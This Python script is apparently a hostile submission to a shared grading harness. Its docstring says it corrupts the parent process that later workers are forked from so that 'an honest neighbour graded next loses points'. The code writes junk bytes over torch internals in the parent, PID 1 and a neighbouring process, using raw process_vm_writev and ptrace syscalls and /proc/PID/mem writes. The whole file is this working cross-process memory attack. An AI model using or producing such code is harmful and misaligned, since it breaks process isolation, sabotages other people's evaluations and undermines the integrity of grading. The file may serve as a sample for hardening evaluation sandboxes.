"""Change the parent that the next worker is forked from: its memory, by ptrace, process_vm_writev, /proc/PID/mem.

It writes over the name of torch.linspace and over the code of the worker's loop.

Success: an honest neighbour graded next loses points.
"""

import contextlib
import ctypes
import os
import struct

import torch

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(number, *arguments):
    """Make a system call without the wrapper of libc, by its number on x86-64."""
    return libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))


target = id(torch.Tensor.__dict__)
rubbish = ctypes.create_string_buffer(b"\xcc" * 64)
local = ctypes.create_string_buffer(struct.pack("<QQ", ctypes.addressof(rubbish), 64))
remote = ctypes.create_string_buffer(struct.pack("<QQ", target, 64))
for pid in {os.getppid(), 1, os.getppid() - 1} - {0, os.getpid()}:
    syscall(311, pid, ctypes.addressof(local), 1, ctypes.addressof(remote), 1, 0)
    if syscall(101, 16, pid, 0, 0) == 0:
        syscall(101, 5, pid, target, 0)
        syscall(101, 17, pid, 0, 0)
    with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "r+b", buffering=0) as file:
        file.seek(target)
        file.write(b"\xcc" * 64)
